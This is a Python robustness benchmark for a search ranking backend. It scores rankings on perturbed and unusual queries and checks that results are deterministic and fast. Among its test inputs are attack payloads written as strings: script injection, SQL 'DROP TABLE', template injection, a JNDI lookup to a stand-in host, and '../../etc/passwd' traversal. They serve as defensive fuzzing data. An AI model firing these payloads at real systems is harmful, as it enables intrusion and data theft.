"""Questions as they also come: misspelt, in other languages, one word, three hundred, markup, pictures, any bytes.

What is expected of them: no error, an order that is the same every time, and where the question is one of the
collection's own, disturbed, nearly the answers of the undisturbed one.
"""

import random
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from statistics import median, quantiles
from typing import Final

import numpy as np

from benchmarks.relevance.collection import Collection
from benchmarks.relevance.measures import score
from benchmarks.relevance.systems import answered, documents, indexed
from registry.core.ranking import Embedder, explain
from registry.search.backend import Backend

_NDCG: Final = 2


def _typo(said: str, chance: random.Random) -> str:
    """Two neighbouring letters of one word in three change places."""
    return " ".join(
        _swapped(word, chance) if len(word) > 4 and chance.random() < 1 / 3 else word for word in said.split()
    )


def _swapped(word: str, chance: random.Random) -> str:
    at = chance.randrange(1, len(word) - 2)
    return word[:at] + word[at + 1] + word[at] + word[at + 2 :]


_BABBLE: Final = (
    "By the way, I should say where I come from with this. Last year my brother and I took over the shop of our "
    "parents, and since then hardly a week has gone by without some small surprise. We like it, though. "
)

DISTURBED: Final[dict[str, Callable[[str, random.Random], str]]] = {
    "as it is": lambda said, _: said,
    "typos": _typo,
    "in capitals": lambda said, _: said.upper(),
    "no punctuation": lambda said, _: "".join(one if one.isalnum() else " " for one in said),
    "markup": lambda said, _: f"<p class='q'><b>{said}</b></p><script>alert(1)</script>",
    "markdown and a URL": lambda said, _: f"**{said}** [see](https://user.example/a?b=c&d=%20#e)",
    "JSON": lambda said, _: '{"role": "user", "content": "' + said + '"}',
    "emoji": lambda said, _: f"\U0001f64f {said} \U0001f680\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "zero-width characters": lambda said, _: "\u200b".join(said),
    "fullwidth letters": lambda said, _: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in said),
    "engine syntax": lambda said, _: f'+{said.replace(" ", " AND ")}^2 -host:* text:"{said}"~3 OR kind:stats',
    "300 words": lambda said, _: f"{said} {_BABBLE * 7}",
}

STRANGE: Final = (
    "", " ", "\0", "a", "?", "the", "need", "-", '"', "\\", "%", "*", "host:*", "kind:stats", "a" * 100_000,
    "word " * 50_000, "\ud800", "\ufeff", "\u202e reversed \u202c", "e\u0301" * 500, "🚀", "🚀" * 1_000, "\x1b[31mred",
    "'; DROP TABLE services; --", "{{7*7}}", "${jndi:ldap://x.example/a}", "../../etc/passwd", "NaN", "1e999", "-0",
    "ich möchte ein Paket nach Österreich schicken", "je voudrais réserver une table pour deux personnes",
    "necesito traducir un documento", "почта россии отследить посылку", "我需要翻译一份文件", "天気予報を調べたい",
    "날씨를 알려줘", "أريد حجز فندق", "אני צריך מזג אוויר", "ฉันต้องการจองโรงแรม", "मुझे मौसम बताओ",
)  # fmt: skip
"""No question of the collection; some of no language, some of languages that the model does not know."""


@dataclass(frozen=True, slots=True)
class Disturbed:
    """NDCG@10 in per cent, and CPU milliseconds of reading, candidates, ranking and explaining ten."""

    name: str
    queries: int
    ndcg: float
    p50: float
    p99: float


async def disturbed(collection: Collection, embedder: Embedder | None, every: int) -> list[Disturbed]:
    chance = random.Random(6)
    async with indexed(embedder, documents(collection.listings, embedder)) as backend:
        found = []
        for name, change in DISTURBED.items():
            ndcg, spent = [], []
            for one in collection.queries[::every]:
                hosts, ms = await _answered(backend, change(one.text, chance), embedder)
                ndcg.append(score(hosts, one.grades)[_NDCG])
                spent.append(ms)
            found.append(
                Disturbed(name, len(ndcg), 100 * float(np.mean(ndcg)), median(spent), quantiles(spent, n=100)[98])
            )
        spent = [(await _answered(backend, said, embedder))[1] for said in STRANGE]
        return [*found, Disturbed("strange", len(spent), float("nan"), median(spent), max(spent))]


async def _answered(backend: Backend, said: str, embedder: Embedder | None) -> tuple[Sequence[str], float]:
    """Raises AssertionError where the same question has two answers."""
    start = time.process_time()
    first = await _once(backend, said, embedder)
    spent = time.process_time() - start
    assert first == await _once(backend, said, embedder), said[:80]
    return first, 1e3 * spent


async def _once(backend: Backend, said: str, embedder: Embedder | None) -> list[str]:
    ranking = await answered(backend, said, embedder)
    return [explain(ranking, place).host for place in range(min(10, len(ranking)))]
